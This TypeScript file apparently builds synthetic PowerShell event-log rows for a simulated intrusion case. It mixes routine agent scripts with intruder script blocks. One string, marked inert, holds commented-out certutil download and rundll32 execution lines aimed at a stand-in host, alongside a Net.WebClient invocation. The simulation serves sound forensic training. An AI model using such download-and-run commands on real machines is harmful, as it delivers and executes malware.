/**
 * PowerShell operational log (script blocks, 4104, and engine pipeline records, 4103): the management agent's scripts every
 * half hour on every machine, and what the intruder ran. Scripts of the intruder are stand-ins that do nothing.
 */
import { NOVAK, SVC_BACKUP, SYSTEM, idOf, qualified } from '../world/accounts.ts';
import type { Account } from '../world/accounts.ts';
import { DC_0001, FS_0007, MG_0005, WS_0117, WS_0142, WS_0209 } from '../world/hosts.ts';
import type { Host } from '../world/hosts.ts';
import type { Random } from '../core/random.ts';
import { MINUTE_US, isoOffset, on11 } from '../core/time.ts';
import { IMAGES } from '../world/programs.ts';
import { ENCODED_POWERSHELL, EVIDENCE_END_US, LATERAL_POWERSHELL, TIMES } from '../story/intrusion.ts';
import type { Fleet } from '../windows/fleet.ts';
import type { Row } from '../write/text-tables.ts';

export const POWERSHELL_COLUMNS = [
  'TimeGenerated',
  'EventID',
  'Computer',
  'Channel',
  'Level',
  'User',
  'ProcessId',
  'ScriptBlockId',
  'MessageNumber',
  'MessageTotal',
  'ScriptBlockText',
  'Path',
  'HostApplication',
  'Payload',
] as const;

const OFFSET_HOURS = 1;
const SCRIPTS = 'C:\\Program Files\\Harbour Agent\\scripts';

/** What the agent runs: script name, script blocks, cmdlets reported by the pipeline log. */
const AGENT_RUNS = [
  {
    file: 'certs.ps1',
    blocks: ['Get-ChildItem Cert:\\LocalMachine\\My | Where-Object { $_.NotAfter -lt (Get-Date).AddDays(30) }', '{ $_.NotAfter -lt (Get-Date).AddDays(30) }'],
    cmdlets: ['Get-ChildItem', 'Where-Object', 'ConvertTo-Json'],
  },
  {
    file: 'printers.ps1',
    blocks: ['Get-Printer | Select-Object Name,DriverName,PortName | ConvertTo-Json'],
    cmdlets: ['Get-Printer', 'Select-Object', 'ConvertTo-Json'],
  },
  {
    file: 'updates.ps1',
    blocks: ['$s = New-Object -ComObject Microsoft.Update.Session', '$s.CreateUpdateSearcher().GetTotalHistoryCount()'],
    cmdlets: ['New-Object', 'Write-Output'],
  },
  {
    file: 'services.ps1',
    blocks: ["Get-Service | Where-Object Status -ne 'Running' | Where-Object StartType -eq 'Automatic'"],
    cmdlets: ['Get-Service', 'Where-Object', 'Export-Csv'],
  },
  {
    file: 'disk.ps1',
    blocks: ['Get-Volume | Where-Object DriveLetter | Select-Object DriveLetter,SizeRemaining,Size'],
    cmdlets: ['Get-Volume', 'Where-Object', 'Select-Object'],
  },
] as const;

/** The script behind the download: a harmless outline of what such scripts do. */
const STAGE_TWO = [
  '# stage two, sample case Lantern: inert outline',
  "$u = 'http://cdn-sync.example.net/u.dat'",
  "$d = 'C:\\Users\\Public\\u.dat'",
  '# certutil.exe -urlcache -f $u $d',
  '# rundll32.exe $d,Start',
].join('\n');

export function powershellRows(fleet: Fleet, random: Random): Row[] {
  const rows: { us: number; row: Row }[] = [];
  const put = (us: number, host: Host, account: Account, pid: number, eventId: 4103 | 4104, fields: Row): void => {
    if (us >= EVIDENCE_END_US) return;
    rows.push({
      us,
      row: {
        TimeGenerated: isoOffset(us, OFFSET_HOURS),
        EventID: eventId,
        Computer: host.name,
        Channel: 'Microsoft-Windows-PowerShell/Operational',
        Level: eventId === 4104 ? 'Verbose' : 'Information',
        User: qualified(account),
        ProcessId: pid,
        ...fields,
      },
    });
  };
  const block = (us: number, host: Host, account: Account, pid: number, text: string, path: string | null, warn = false): void =>
    put(us, host, account, pid, 4104, {
      ScriptBlockId: idOf(`block ${host.name} ${pid} ${us}`),
      MessageNumber: 1,
      MessageTotal: 1,
      ScriptBlockText: text,
      Path: path,
      ...(warn ? { Level: 'Warning' } : {}),
    });

  for (const host of [WS_0142, WS_0209, WS_0117, FS_0007, DC_0001, MG_0005]) {
    const start = TIMES.boot + random.int(2, 20) * MINUTE_US;
    for (let us = start, run = 0; us < EVIDENCE_END_US - MINUTE_US; us += 30 * MINUTE_US, run += 1) {
      const script = AGENT_RUNS[run % AGENT_RUNS.length] ?? AGENT_RUNS[0];
      const pid = random.int(300, 5_900) * 4;
      let at = us + random.int(0, 20_000) * 1_000;
      for (const text of script.blocks) block((at += random.int(20, 300) * 1_000), host, SYSTEM, pid, text, `${SCRIPTS}\\${script.file}`);
      for (const cmdlet of script.cmdlets) {
        at += random.int(30, 900) * 1_000;
        put(at, host, SYSTEM, pid, 4103, {
          HostApplication: `powershell.exe -NoProfile -NonInteractive -File ${SCRIPTS}\\${script.file}`,
          Payload: `CommandInvocation(${cmdlet}): "${cmdlet}"`,
        });
      }
    }
  }

  const shell = fleet.ws0142.chain.powershell;
  block(on11('22:04:18.402'), WS_0142, NOVAK, shell.pid, ENCODED_POWERSHELL.decoded, null, true);
  block(on11('22:04:19.310'), WS_0142, NOVAK, shell.pid, STAGE_TWO, null, true);
  put(on11('22:04:18.690'), WS_0142, NOVAK, shell.pid, 4103, {
    HostApplication: ENCODED_POWERSHELL.commandLine,
    Payload: 'CommandInvocation(New-Object): "New-Object"\nParameterBinding(New-Object): name="TypeName"; value="Net.WebClient"',
  });
  const server = fleet.hosts.find((item) => item.host === FS_0007)?.all() ?? [];
  for (const [script, image] of [
    [LATERAL_POWERSHELL[0], IMAGES.powershell],
    [LATERAL_POWERSHELL[1], IMAGES.pwsh],
  ] as const) {
    const made = server.find((item) => item.image === image && item.commandLine === script.commandLine);
    if (made !== undefined) block(made.startUs + 640_000, FS_0007, SVC_BACKUP, made.pid, script.decoded, null, true);
  }
  return rows.sort((left, right) => left.us - right.us).map((item) => item.row);
}
